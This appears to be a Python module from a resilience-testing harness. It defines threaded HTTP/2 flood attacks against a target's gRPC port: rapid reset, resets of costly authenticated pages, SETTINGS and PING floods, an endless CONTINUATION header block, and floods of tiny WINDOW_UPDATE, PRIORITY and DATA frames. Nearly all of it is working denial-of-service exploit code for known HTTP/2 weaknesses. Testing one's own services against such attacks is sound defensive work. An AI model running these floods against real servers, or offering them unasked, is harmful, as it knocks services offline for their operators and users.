"""HTTP/2 frames that cost the receiver more than the sender."""
import select

from . import wire


def drain(connection):
    """Reads what is there; False where the connection has ended."""
    while select.select([connection], [], [], 0)[0]:
        if not connection.recv(65_536):
            return False
    return True


def flood(target, make_batches, read_replies=True, threads=4):
    """Sends batches of frames, again and again, on connections that are renewed when the server closes them."""
    def run(_):
        with target.connect(target.grpc_port, timeout=5) as connection:
            connection.sendall(wire.PREFACE + wire.settings())
            for count, batch in make_batches():
                if target.stop.is_set():
                    return
                try:
                    connection.sendall(batch)
                    if read_replies and not drain(connection):
                        break
                except OSError:
                    break
                target.count("frames", count)
            target.count("closed by the server")
            target.stop.wait(0.02)

    target.run_threads(threads, run)


def resets(path, per_batch=200):
    """A request and its reset, on one stream after another (rapid reset)."""
    block, reset = wire.header_block("GET", path), (8).to_bytes(4, "big")

    def batches():
        for first in range(1, 2**30, 2 * per_batch):
            streams = range(first, first + 2 * per_batch, 2)
            yield per_batch, b"".join(wire.headers_frame(stream, block) + wire.frame(wire.RST_STREAM, 0, stream, reset) for stream in streams)
    return batches


def repeated(count, frames, opening=b""):
    def batches():
        if opening:
            yield 1, opening
        while True:
            yield count, frames
    return batches


def attack_rapid_reset(target):
    yield
    flood(target, resets("/healthz"))


def attack_reset_pages(target):
    """Resets of what costs something to answer, with a key that may read."""
    yield
    block = wire.header_block("GET", "/", [*target.key_headers("read").items(), ("accept", "text/html")])
    reset = (8).to_bytes(4, "big")

    def batches():
        for first in range(1, 2**30, 40):
            yield 20, b"".join(wire.headers_frame(stream, block) + wire.frame(wire.RST_STREAM, 0, stream, reset) for stream in range(first, first + 40, 2))

    flood(target, batches)


def attack_settings(target):
    yield
    flood(target, repeated(500, wire.settings(window=65_535) * 500), read_replies=False)


def attack_pings(target):
    yield
    flood(target, repeated(1000, wire.frame(wire.PING, 0, 0, b"12345678") * 1000), read_replies=False)


def attack_continuation(target):
    """A header block that never ends: with fields, and empty."""
    opening = wire.headers_frame(1, wire.header_block("GET", "/healthz"), end_headers=False)
    full = wire.frame(wire.CONTINUATION, 0, 1, wire.literal("x", "y" * 10) * 50)
    empty = wire.frame(wire.CONTINUATION, 0, 1) * 100
    turns = iter(range(10**9))
    yield
    flood(target, lambda: repeated(100, full * 10 if next(turns) % 2 else empty, opening)())


def attack_small_frames(target):
    """Window updates, priorities and empty DATA frames."""
    yield
    post = wire.headers_frame(1, wire.header_block("POST", "/v1/traces", [("content-type", "application/x-protobuf"), *target.key_headers("ingest").items()]), end_stream=False)
    kinds = [(wire.frame(wire.WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 500, b""), (wire.frame(wire.PRIORITY, 0, 1, b"\x00\x00\x00\x00\x01") * 500, b""),
             (wire.frame(wire.DATA, 0, 1) * 500, post)]
    turns = iter(range(10**9))

    def batches():
        frames, opening = kinds[next(turns) % len(kinds)]
        return repeated(500, frames, opening)()

    flood(target, batches)
